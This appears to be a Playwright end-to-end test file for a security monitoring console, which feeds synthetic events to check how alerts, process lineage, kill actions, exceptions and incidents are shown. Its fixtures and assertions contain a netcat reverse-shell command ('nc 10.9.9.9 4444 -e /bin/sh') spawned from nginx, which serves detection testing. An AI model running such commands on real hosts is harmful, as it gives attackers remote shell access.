// The analyst follows an attack in the console (Debian's Chromium) against a real embedded server
// (test/api/support.ts: SQLite, chdb, ledger, a simulated agent): a chain of process events on one lineage —
// nginx starts a shell that writes a file and runs `nc -e /bin/sh` which connects out — raises two alerts (a
// shell spawned by a web server; a netcat reverse shell). The analyst opens the netcat alert and sees its
// lineage (nginx → sh → nc), the rule's author and the evidence (command line, connection, user), goes to the
// process page (ancestors, events by type, kill with a reason), filters the host timeline to that process,
// hunts from a pivot; creates an exception from the alert, sees it listed and removes it; opens the incident
// (when the server groups alerts into incidents), sees its alerts, tree and timeline and closes it with a
// disposition. Screenshots of each page go to test-artifacts/investigation-*.png.

import { after, before, test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';
import type { VigilEvent } from '../../src/schema/event.ts';
import { call, drained, startFixture, type Fixture } from '../api/support.ts';
import { launchChromium, screenshot, signInWithApiKey } from './browser.ts';

let f: Fixture;
let browser: Browser;
let page: Page;
let hostId: string;
let netcatAlert: any;

const base = Date.now() - 120_000;
let clock = base;
let n = 0;
const RUN = Math.random().toString(16).slice(2, 10);

interface Proc { pid: number; entity: string; exe: string; args: string[] }
const NGINX: Proc = { pid: 700, entity: `ent-nginx-${RUN}`, exe: '/usr/sbin/nginx', args: ['nginx', '-g', 'daemon off;'] };
const SHELL: Proc = { pid: 701, entity: `ent-sh-${RUN}`, exe: '/bin/sh', args: ['sh', '-c', 'cd /tmp; nc 10.9.9.9 4444 -e /bin/sh'] };
const NC: Proc = { pid: 702, entity: `ent-nc-${RUN}`, exe: '/usr/bin/nc', args: ['nc', '10.9.9.9', '4444', '-e', '/bin/sh'] };

function event(type: string, p: Proc, parent: Proc | undefined, extra: Partial<VigilEvent> = {}): VigilEvent {
  const e = f.agents[0].syntheticEvents(1)[0];
  e['@timestamp'] = new Date(clock += 50).toISOString();
  const category = type.startsWith('network') ? 'network' : type.startsWith('file') ? 'file' : 'process';
  e.event = { ...e.event, id: `0190c0de-0000-7000-8000-${RUN.slice(0, 4)}${String(++n).padStart(8, '0')}`, type: type as VigilEvent['event']['type'],
    action: type === 'process_start' ? 'exec' : type === 'process_end' ? 'exit' : type, category };
  e.process = {
    pid: p.pid, ppid: parent?.pid ?? 1, entity_id: p.entity, executable: p.exe, name: p.exe.split('/').pop(), args: p.args,
    command_line: p.args.join(' '), start: new Date(base).toISOString(), hash: { sha256: `${'ab'.repeat(31)}${String(p.pid % 100).padStart(2, '0')}` },
    ...(parent ? { parent: { pid: parent.pid, entity_id: parent.entity, executable: parent.exe, command_line: parent.args.join(' ') } } : {}),
  };
  e.user = { id: '33', name: 'www-data' };
  return { ...e, ...extra };
}

before(async () => {
  f = await startFixture();
  hostId = f.agents[0].identity.agentId;
  await f.agents[0].send([
    event('process_start', NGINX, undefined),
    event('process_start', SHELL, NGINX),
    event('file_create', SHELL, NGINX, { file: { path: '/tmp/.x-payload' } }),
    event('process_start', NC, SHELL),
    event('network_connection', NC, SHELL, { source: { ip: '192.168.1.20', port: 51514 }, destination: { ip: '10.9.9.9', port: 4444 }, network: { transport: 'tcp', direction: 'outbound' } }),
  ]);
  await drained(f);
  for (const until = Date.now() + 20_000; Date.now() < until; await new Promise((r) => setTimeout(r, 200))) {
    const r = await call(f, 'GET', `/alerts?host=${hostId}&limit=100`, { token: f.adminKey });
    netcatAlert = r.body.alerts?.find((a: any) => a.process_entity_id === NC.entity);
    if (netcatAlert) break;
  }
  assert.ok(netcatAlert, 'the netcat alert was raised');
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  page.setDefaultTimeout(15_000);
  await signInWithApiKey(page, f.server.httpUrl, f.adminKey);
});

after(async () => {
  await browser?.close();
  await f?.stop();
});

async function endpointThere(t: TestContext, path: string): Promise<boolean> {
  const r = await call(f, 'GET', path, { token: f.adminKey });
  if (r.status === 404 && /no route/.test(JSON.stringify(r.body))) { t.skip(`GET ${path.split('?')[0]} is not on this server yet`); return false; }
  return true;
}

test('the alert tells the story: lineage root first, rule author, techniques, evidence in full', { timeout: 90_000 }, async () => {
  await page.getByRole('link', { name: 'Alerts', exact: true }).click();
  const list = page.getByRole('table', { name: 'Alerts' });
  const row = list.getByRole('row').filter({ hasText: 'Netcat Reverse Shell' });
  await row.first().waitFor();
  assert.match(await row.first().innerText(), /own-host/, 'the host by name, not its id');
  assert.doesNotMatch(await list.innerText(), new RegExp(hostId.slice(0, 12)), 'no raw host id in the list');
  await screenshot(page, 'investigation-alert-list');

  await row.first().getByRole('link', { name: 'Netcat Reverse Shell' }).click();
  await page.getByRole('heading', { name: 'Netcat Reverse Shell' }).waitFor();
  const lineage = page.getByRole('list', { name: 'Process lineage' });
  await lineage.waitFor();
  const nodes = await lineage.getByRole('listitem').allInnerTexts();
  assert.equal(nodes.length, 3, nodes.join('\n---\n'));
  assert.match(nodes[0], /nginx/);
  assert.match(nodes[1], /sh -c cd \/tmp/);
  assert.match(nodes[2], /nc 10\.9\.9\.9 4444 -e \/bin\/sh/);
  assert.match(nodes[2], /www-data/);
  assert.match(await page.getByTestId('rule-author').innerText(), /Author: Vigil/);
  await page.getByRole('list', { name: 'MITRE techniques' }).getByText('T1059.004').waitFor();
  const evidence = page.getByTestId('evidence-event').first();
  assert.match(await evidence.innerText(), /nc 10\.9\.9\.9 4444 -e \/bin\/sh/);
  assert.match(await evidence.innerText(), /www-data/);
  await evidence.getByRole('button', { name: 'Show raw JSON' }).click();
  await evidence.getByTestId('raw-json').waitFor();
  assert.match(await page.getByTestId('occurrences').innerText(), /Occurrences \d+/);
  await screenshot(page, 'investigation-alert-detail');
  await evidence.getByRole('button', { name: 'Hide raw JSON' }).click();

  // A lineage node opens its process page.
  await page.locator(`[data-testid="lineage-focus"] a`).first().click();
  await page.getByRole('heading', { name: /nc pid 702/ }).waitFor();
});

test('the process page: ancestors, events by type, alerts, kill with a reason', { timeout: 90_000 }, async () => {
  await page.getByRole('list', { name: 'Ancestors' }).getByText('/usr/sbin/nginx').first().waitFor();
  const counts = page.getByLabel('Events by type');
  await counts.getByRole('link', { name: 'network_connection' }).waitFor();
  await page.getByLabel('Alerts about this process').getByRole('link', { name: 'Netcat Reverse Shell' }).waitFor();
  await page.getByRole('table', { name: 'Files' }).getByText('/usr/bin/nc').first().waitFor();
  await screenshot(page, 'investigation-process');

  await page.getByRole('button', { name: 'Kill process' }).first().click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText(/kills pid 702/).waitFor();
  assert.equal(await dialog.getByRole('button', { name: 'Kill process' }).isDisabled(), true, 'a reason is required');
  await dialog.getByRole('textbox', { name: 'Reason' }).fill('reverse shell from the web server');
  await screenshot(page, 'investigation-kill-dialog');
  await dialog.getByRole('button', { name: 'Kill process' }).click();
  await dialog.getByTestId('response-requested').waitFor();
  const actions = await call(f, 'GET', '/ir/actions', { token: f.adminKey });
  const kill = actions.body.actions.find((a: any) => a.action === 'kill_process');
  assert.ok(kill, 'the kill was requested');
  assert.equal(kill.params.pid, 702);
  assert.equal(kill.params.entity_id, NC.entity);
  await dialog.getByRole('button', { name: 'Close' }).click();

  // The parent's page lists nc among its children.
  await page.getByRole('list', { name: 'Ancestors' }).getByRole('link', { name: 'sh', exact: true }).click();
  await page.getByRole('heading', { name: /sh pid 701/ }).waitFor();
  await page.getByRole('table', { name: 'Children' }).getByRole('link', { name: 'nc' }).waitFor();
  await page.getByRole('table', { name: 'Files' }).getByText('/tmp/.x-payload').waitFor();
  await screenshot(page, 'investigation-process-parent');
});

test('the host timeline filtered to a process; a pivot opens a hunt', { timeout: 90_000 }, async () => {
  await page.goto(`${f.server.httpUrl}/hosts/${hostId}?tab=timeline&process=${NC.entity}`);
  const timeline = page.getByRole('table', { name: 'Timeline' });
  await timeline.locator('tr[data-event-type="network_connection"]').waitFor();
  const text = await timeline.innerText();
  assert.match(text, /10\.9\.9\.9/, 'the destination, not only a command line');
  assert.doesNotMatch(text, /\/tmp\/\.x-payload/, 'only the events of nc');
  await screenshot(page, 'investigation-timeline-process');

  await page.goto(`${f.server.httpUrl}/hosts/${hostId}?tab=timeline&type=file_create`);
  await timeline.getByText('/tmp/.x-payload').waitFor();
  await screenshot(page, 'investigation-timeline-files');
  await timeline.getByText('/tmp/.x-payload').click();
  await page.getByRole('menuitem', { name: 'Hunt: events with this path on this host' }).click();
  const results = page.getByRole('table', { name: 'Hunt results' });
  await results.waitFor();
  await results.getByText('/tmp/.x-payload').first().waitFor();
  await screenshot(page, 'investigation-hunt-pivot');
});

test('the alert list: total, host filter by name, grouping by process, bulk acknowledge of a selection', { timeout: 90_000 }, async (t) => {
  const probe = await call(f, 'GET', '/alerts?limit=1', { token: f.adminKey });
  if (probe.body.total === undefined) { t.skip('GET /alerts answers no total on this server yet'); return; }
  await page.goto(`${f.server.httpUrl}/alerts`);
  await page.getByRole('combobox', { name: 'Host' }).fill('own');
  await page.getByRole('option', { name: 'own-host' }).click();
  await page.waitForURL(/host=own-host/);
  await page.getByTestId('alert-total').filter({ hasText: /^2 alerts match/ }).waitFor();

  await page.locator('label[for$="-process"]').click();
  const groups = page.getByRole('table', { name: 'Alert groups' });
  await groups.getByRole('button', { name: /^nc 10\.9\.9\.9/ }).waitFor();
  await page.getByTestId('alert-total').filter({ hasText: '2 alerts in 2 processes' }).waitFor();
  await screenshot(page, 'investigation-alerts-by-process');
  await groups.getByRole('button', { name: /^nc 10\.9\.9\.9/ }).click();
  await page.waitForURL(new RegExp(`process_entity_id=${NC.entity}`));
  await page.getByTestId('alert-total').filter({ hasText: /^1 alert match/ }).waitFor();
  await page.getByRole('button', { name: 'all processes' }).click();

  const list = page.getByRole('table', { name: 'Alerts' });
  await page.getByTestId('alert-total').filter({ hasText: /^2 alerts match/ }).waitFor();
  await list.getByRole('checkbox', { name: 'Select every alert on this page' }).check();
  const bar = page.getByTestId('bulk-bar');
  await bar.getByText('2 alerts selected').waitFor();
  await screenshot(page, 'investigation-alerts-bulk');
  await bar.getByRole('button', { name: 'Acknowledge' }).click();
  await page.getByTestId('bulk-result').filter({ hasText: '2 changed of 2 matching' }).waitFor();
  const acked = await call(f, 'GET', `/alerts?host=${hostId}&status=acknowledged`, { token: f.adminKey });
  assert.equal(acked.body.total, 2);
});

test('an exception from the alert: choose fields, see what it does, list it, remove it', { timeout: 90_000 }, async (t) => {
  if (!(await endpointThere(t, '/exceptions'))) return;
  await page.goto(`${f.server.httpUrl}/alerts/${netcatAlert.id}`);
  await page.getByRole('button', { name: 'Create exception' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('checkbox', { name: /process\.executable/ }).check();
  await dialog.getByTestId('exception-explain').getByText(/\/usr\/bin\/nc/).waitFor();
  await dialog.getByRole('textbox', { name: 'Reason' }).fill('authorised pentest from this host');
  await screenshot(page, 'investigation-exception-dialog');
  await dialog.getByRole('button', { name: 'Create exception' }).click();
  await dialog.waitFor({ state: 'detached' });

  await page.getByRole('link', { name: 'Exceptions' }).click();
  const table = page.getByRole('table', { name: 'Exceptions' });
  const row = table.getByRole('row').filter({ hasText: 'authorised pentest' });
  await row.waitFor();
  assert.match(await row.innerText(), /Netcat Reverse Shell/);
  assert.match(await row.innerText(), /own-host/);
  await screenshot(page, 'investigation-exceptions');
  page.once('dialog', (d) => void d.accept());
  await row.getByRole('button', { name: 'Remove' }).click();
  await row.waitFor({ state: 'detached' });
  assert.equal((await call(f, 'GET', '/exceptions', { token: f.adminKey })).body.exceptions.length, 0);
});

test('the incident: its alerts, process tree and timeline; closed with a disposition', { timeout: 90_000 }, async (t) => {
  if (!(await endpointThere(t, '/incidents'))) return;
  const incident = await call(f, 'GET', `/alerts/${netcatAlert.id}/incident`, { token: f.adminKey });
  if (incident.status !== 200) { t.skip('the server put the alert into no incident'); return; }
  await page.getByRole('link', { name: 'Incidents' }).click();
  const list = page.getByRole('table', { name: 'Incidents' });
  await list.getByRole('link', { name: incident.body.title }).click();
  await page.getByRole('heading', { name: incident.body.title }).waitFor();
  const tree = page.getByRole('tree', { name: 'Incident processes' });
  await tree.getByText('nginx').first().waitFor();
  await tree.getByText(/nc 10\.9\.9\.9/).first().waitFor();
  await page.getByRole('table', { name: 'Incident timeline' }).getByText(/Netcat Reverse Shell/).first().waitFor();
  await screenshot(page, 'investigation-incident');

  await page.getByRole('button', { name: 'Close incident' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('radio', { name: 'True positive' }).check();
  await dialog.getByRole('textbox', { name: 'Reason' }).fill('contained: host reimaged');
  await dialog.getByRole('button', { name: 'Close incident' }).click();
  await dialog.waitFor({ state: 'detached' });
  await page.getByText('true positive').first().waitFor();
  const after = await call(f, 'GET', `/incidents/${incident.body.id}`, { token: f.adminKey });
  assert.equal(after.body.status, 'closed');
  assert.equal(after.body.disposition, 'true_positive');
  await screenshot(page, 'investigation-incident-closed');
});
